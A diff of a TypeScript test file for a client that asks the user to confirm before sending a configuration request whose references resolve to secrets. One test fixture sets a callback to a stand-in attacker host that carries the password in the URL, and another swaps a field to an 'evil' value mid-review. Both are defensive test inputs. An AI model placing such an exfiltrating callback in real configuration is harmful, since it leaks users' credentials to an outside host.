@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { Cancelled } from '../../client/src/ui';
-import { brokenSecrets, memorySecrets, newSecret, type Script } from './fakes';
+import { createWholeRequests } from '../../client/src/provisioning/wholeRequest';
+import { brokenSecrets, fakePages, fakeUi, memorySecrets, newSecret, type Script } from './fakes';
 import { useSandbox } from './ownSandbox';
 import { aSource, openWindow } from './ownWindow';
 
@@ -40,24 +41,45 @@ describe('provision of a file with references', () => {
     assert.equal(window.clear().includes(value), false);
   });
 
-  it('asks first: what it refers to, where it goes, and which other addresses it has', async () => {
+  it('asks first: account and host, each reference with what stands beside it, and sends nothing without a yes', async () => {
     const window = open({}, { DESK_PASSWORD: newSecret() });
     await window.press(
       request({ password: '${env:DESK_PASSWORD}', callback: 'https://evil.example/?${env:DESK_PASSWORD}' }),
     );
-    const { host } = new URL(place.sandbox.baseUrl);
-    assert.deepEqual(window.ui.told, [
-      {
-        tone: 'warning',
-        modal: true,
-        text: `Send values that are not in this file to Mine at ${host}?`,
-        detail:
-          'The file refers to:\n${env:DESK_PASSWORD}\n\nIt also has these addresses, where the values may end up:\nevil.example\n\n' +
-          'Your yes is remembered for this file and account, as long as these names and addresses stay, each where it is.',
-        buttons: ['Send'],
-      },
+    const [question, ...more] = window.ui.told;
+    assert.equal(question?.text, `Send this request with Mine at ${new URL(place.sandbox.baseUrl).host}?`);
+    assert.deepEqual(question.detail?.split('\n').slice(1, 7), [
+      '"configuration": {',
+      '"username": "me",',
+      '"mailbox.name": "Help",',
+      '"password": "${env:DESK_PASSWORD}",',
+      '"callback": "https://evil.example/?${env:DESK_PASSWORD}"',
+      '}',
     ]);
-    assert.deepEqual(bodies(), []);
+    assert.deepEqual([question.buttons, more, bodies()], [['Send'], [], []]);
+  });
+
+  it('sends what was shown, whatever becomes of the file while its page is read', async () => {
+    const value = newSecret();
+    const padded = request({
+      ...Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`x${n}`, 'y'])),
+      password: '${env:P}',
+    });
+    let text = padded;
+    const ui = fakeUi({ press: ['Show Request', 'Send'] });
+    const pages = fakePages();
+    const wholeRequests = createWholeRequests(ui, {
+      open: (...all) => {
+        text = padded.replace('"x7":"y"', '"zendesk.subdomain":"evil"');
+        return pages.open(...all);
+      },
+    });
+    const { provision } = openWindow(place, {}, { ui, wholeRequests, environment: () => value });
+    await provision({ ...aSource(''), text: () => text });
+    assert.notEqual(text, padded);
+    assert.deepEqual(bodies(), [padded.replace('${env:P}', value)]);
+    assert.equal(pages.opened[0]?.text.includes('"x29": "y"'), true);
+    assert.equal(pages.opened[0].text.includes(value), false);
   });
 
   it('asks nothing of a file without references, and sends it as it is', async () => {
